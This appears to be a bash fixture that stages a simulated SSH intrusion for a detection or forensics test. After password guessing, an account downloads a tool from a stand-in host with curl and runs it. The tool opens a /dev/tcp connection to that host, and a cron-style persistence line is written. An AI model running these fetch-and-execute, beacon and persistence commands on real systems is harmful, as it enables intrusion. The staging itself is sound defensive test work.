# shellcheck shell=bash disable=SC2034
HOST=gw01
FORMAT=RAW
CALLS=close

# account NAME UID PASSWORD
account() {
    echo "$1:x:$2:$2::/srv/home/$1:/bin/bash" >>/etc/passwd
    echo "$1:$(openssl passwd -6 "$3"):20000:0:99999:7:::" >>/etc/shadow
    echo "$1:x:$2:" >>/etc/group
    install -d -m 755 -o "$2" -g "$2" "/srv/home/$1"
    echo "PS1='\$ '" >"/srv/home/$1/.bashrc"
    echo ". ~/.bashrc" >"/srv/home/$1/.profile"
}

scenario() {
    local python=(/usr/bin/python3 -S -B) here=$folder
    account backup1 4050 winter
    account carol 4051 spring
    mkdir -p /srv/www /run/sshd
    echo "name,salary" >/srv/home/carol/salaries.csv
    printf '#!/bin/bash\nexec 3<>/dev/tcp/203.0.113.9/4444\necho ready >&3\nread -t 1 line <&3\n' >/srv/www/tool
    ssh-keygen -q -t ed25519 -N "" -C host -f /srv/host.key
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication yes" "PrintMotd no" >/srv/sshd_config
    sed -i '/pam_motd\|pam_mail/d' /etc/pam.d/sshd
    outside "${python[@]}" -m http.server --bind 203.0.113.9 443 --directory /srv/www >/dev/null 2>&1 &
    outside "${python[@]}" -m http.server --bind 203.0.113.9 4444 --directory /srv/www >/dev/null 2>&1 &
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    sleep 2
    outside "${python[@]}" "$here/login.py" carol@10.88.0.10 192.0.2.7 spring "cp salaries.csv /tmp/salaries.bak" "sleep 25; exit" >/dev/null &
    local carol=$!
    sleep 4
    outside "${python[@]}" "$here/login.py" backup1@10.88.0.10 198.51.100.23 summer,autumn,fall >/dev/null
    outside "${python[@]}" "$here/login.py" backup1@10.88.0.10 198.51.100.23 summer,winter \
        "curl -s -o /tmp/.x http://203.0.113.9:443/tool" "chmod +x /tmp/.x" "/tmp/.x" "echo '* * * * * /tmp/.x' > ~/.jobs" "exit" >/dev/null
    wait "$carol"
    rm -f /tmp/.x /tmp/salaries.bak
}
